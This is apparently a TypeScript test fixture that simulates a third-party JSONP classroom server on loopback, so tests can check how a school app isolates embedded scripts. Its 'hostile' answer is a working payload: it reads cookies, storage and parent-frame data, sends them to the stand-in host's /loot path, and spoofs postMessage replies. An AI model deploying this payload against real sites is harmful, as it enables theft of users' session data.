import { createServer } from 'node:https'
import type { AddressInfo } from 'node:net'
import { freshCertificate } from '../kit/certificate.ts'

/** Under this name the browser of the tests finds it: a machine's own name would be refused. */
export const elsewhereName = 'live.elsewhere.example'

/** What the stand-in makes of a JSONP call: a script, nothing but a status, or never an answer. */
export type Answering = { script: (callback: string) => string } | { status: number } | 'never'

export const replying = (code: string, protocol: string): Answering => ({
  script: callback => `${callback}(${JSON.stringify({ code, protocol })})`,
})

export interface Elsewhere {
  /** Where its join link stands. */
  address: string
  answers(how: Answering): void
  /** The query of each JSONP call, and of each time that the link was opened as a page. */
  called: Record<string, string>[]
  opened: Record<string, string>[]
  /** What came with any of them and should not have. */
  cookies: string[]
  /** What a script of it brought home. */
  loot: Record<string, string>[]
  close(): Promise<void>
}

/** A school's own classroom elsewhere, played on the loopback: good, broken or hostile as a test wishes. */
export async function openElsewhere(): Promise<Elsewhere> {
  let how: Answering = replying('', '')
  const called: Elsewhere['called'] = []
  const opened: Elsewhere['opened'] = []
  const cookies: string[] = []
  const loot: Elsewhere['loot'] = []
  const server = createServer(freshCertificate(elsewhereName), (request, reply) => {
    const { pathname, searchParams } = new URL(request.url ?? '/', 'https://127.0.0.1')
    const query = Object.fromEntries(searchParams)
    const script = (text: string) =>
      reply.writeHead(200, { 'content-type': 'text/javascript; charset=utf-8' }).end(text)
    if (request.headers.cookie) cookies.push(request.headers.cookie)
    if (pathname === '/loot') {
      loot.push(query)
      return script('broughtHome()')
    }
    if (pathname !== '/join') return reply.writeHead(404).end()
    if (searchParams.get('callback') === null) {
      opened.push(query)
      return reply
        .writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
        .end('<!doctype html><link rel="icon" href="data:,"><title>-</title><h1>A classroom elsewhere</h1>')
    }
    called.push(query)
    if (how === 'never') return
    return 'status' in how ? reply.writeHead(how.status).end() : script(how.script(query.callback ?? ''))
  })
  await new Promise<void>(done => server.listen(0, '127.0.0.1', done))
  return {
    address: `https://${elsewhereName}:${(server.address() as AddressInfo).port}/join`,
    answers: given => {
      how = given
    },
    called,
    opened,
    cookies,
    loot,
    close: () => {
      server.closeAllConnections()
      return new Promise(done => server.close(() => done()))
    },
  }
}

/**
 * Reaches for everything a script could want: the school's cookies, storage and page, its calls, other windows; brings home what it
 * got, then sends whatever comes to mind instead of an answer.
 */
export const hostile = (home: string): Answering => ({
  script: () => `
    var got = {}
    function reach(name, how) { try { got[name] = 'got ' + how() } catch (denied) { got[name] = denied.name } }
    reach('origin', function () { return self.origin })
    reach('cookie', function () { return document.cookie })
    reach('storage', function () { return localStorage.length })
    reach('database', function () { return indexedDB.open('x') && 'it' })
    reach('page', function () { return parent.document.title })
    reach('address', function () { return parent.location.href })
    reach('frame', function () { return frameElement.outerHTML })
    reach('window', function () { return String(window.open('${home}')) })
    reach('away', function () { return (top.location = '${home}') })
    fetch('/eschool-service/api/v1/userInfo').then(
      function () { got.call = 'got an answer' }, function (denied) { got.call = denied.name }
    ).then(function () {
      var way = document.createElement('script')
      way.src = '${home.replace('/join', '/loot')}?' + new URLSearchParams(got)
      document.head.appendChild(way)
    })
    function broughtHome() {
      for (var i = 0; i < 50; i++) parent.postMessage({ ready: true }, '*')
      parent.postMessage({ reply: { code: { a: 1 }, protocol: ['javascript'] } }, '*')
      parent.postMessage(null, '*')
    }
    // The frame waits on: what it would say of a script that called nobody is taken away.
    document.currentScript.onload = null`,
})
